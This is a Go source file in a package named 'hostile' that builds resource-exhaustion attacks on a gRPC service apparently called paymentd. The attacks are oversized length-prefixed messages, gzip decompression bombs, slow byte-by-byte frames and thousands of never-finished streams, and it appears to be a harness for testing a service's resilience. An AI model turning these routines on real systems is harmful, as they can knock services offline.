package hostile

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"

	"golang.org/x/net/http2/hpack"
)

// Huge begins messages that say they have 1 GiB, and sends them as far as the windows go.
func Huge(ctx context.Context, address string) error {
	body := append([]byte{0, 0x40, 0, 0, 0}, make([]byte, 1<<20)...)
	all := append([]string{process}, methods...)
	return calls{methods: all, body: body, then: hold}.keep(ctx, address, 4, 16)
}

// EmptyItems sends paymentd the largest messages that it takes, of commands of two bytes: each costs it many times as
// much.
func EmptyItems(ctx context.Context, address string) error {
	const size = 512 << 10
	body := append(binary.BigEndian.AppendUint32([]byte{0}, size), bytes.Repeat([]byte{0x0a, 0}, size/2)...)
	return calls{methods: []string{process}, body: body, then: again}.keep(ctx, address, 4, 4)
}

// Bombs sends small messages that are 64 MiB when they are unpacked.
func Bombs(ctx context.Context, address string) error {
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	_, _ = w.Write(make([]byte, 64<<20)) // a buffer takes everything
	_ = w.Close()
	body := append(binary.BigEndian.AppendUint32([]byte{1}, uint32(packed.Len())), packed.Bytes()...)
	all := append([]string{process}, methods...)
	gzipped := []hpack.HeaderField{{Name: "grpc-encoding", Value: "gzip"}}
	return calls{methods: all, headers: gzipped, body: body, then: again}.keep(ctx, address, 4, 16)
}

// Dust sends messages byte by byte as fast as the windows allow, a DATA frame each, and never the last byte.
func Dust(ctx context.Context, address string) error {
	return calls{methods: methods, body: unfinished(), frame: 1, then: hold}.keep(ctx, address, 2, 100)
}

// Bodies sends messages of 60 KiB, but for the last byte, on 1,000 streams of each of 10 connections.
func Bodies(ctx context.Context, address string) error {
	return calls{methods: methods, body: unfinished(), then: hold}.keep(ctx, address, 10, 1000)
}

func unfinished() []byte {
	const size = 60 << 10
	return append(binary.BigEndian.AppendUint32([]byte{0}, size), make([]byte, size-1)...)
}
